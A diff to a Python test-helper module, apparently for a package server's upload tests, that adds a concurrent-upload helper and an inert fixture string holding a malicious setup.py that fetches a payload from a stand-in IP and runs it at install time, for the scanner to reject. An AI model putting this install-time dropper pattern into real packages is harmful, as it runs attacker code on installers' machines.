@@ -630,3 +630,43 @@ def request_lines(log: str, method: str, path: str) -> list[str]:
     """Log lines that record a request with this method for exactly this path."""
     pat = re.compile(re.escape(path) + r"(?![\w.\-/%])")
     return [ln for ln in log.splitlines() if method in ln and pat.search(ln)]
+
+
+# setup.py that downloads a program and runs it while the package installs (inert: a string the
+# scanner reads, never executed): the scanner refuses it as malicious.
+DROPPER_SETUP = (
+    "import os, urllib.request\n"
+    "from setuptools import setup\n"
+    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
+    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
+    "setup(name='x', version='1')\n"
+)
+
+
+def race_uploads(jobs: list[tuple["Server", str, str, bytes, str, str]]) -> list:
+    """Sends every upload at once (a barrier releases them together), each to its own server,
+    and returns the responses in job order. A job is (server, token, filename, content, name,
+    version)."""
+    import threading
+
+    barrier = threading.Barrier(len(jobs))
+    results: list = [None] * len(jobs)
+
+    def run(i, job):
+        server, token, filename, content, name, version = job
+        req = legacy_request(server.upload_url, token, filename, content, name=name, version=version)
+        s = http_session()
+        barrier.wait()
+        try:
+            results[i] = s.send(req, timeout=60)
+        except Exception as e:  # noqa: BLE001 - reported below
+            results[i] = e
+
+    threads = [threading.Thread(target=run, args=(i, j)) for i, j in enumerate(jobs)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(timeout=90)
+    for r in results:
+        assert not isinstance(r, Exception), f"request failed: {r!r}"
+    return results
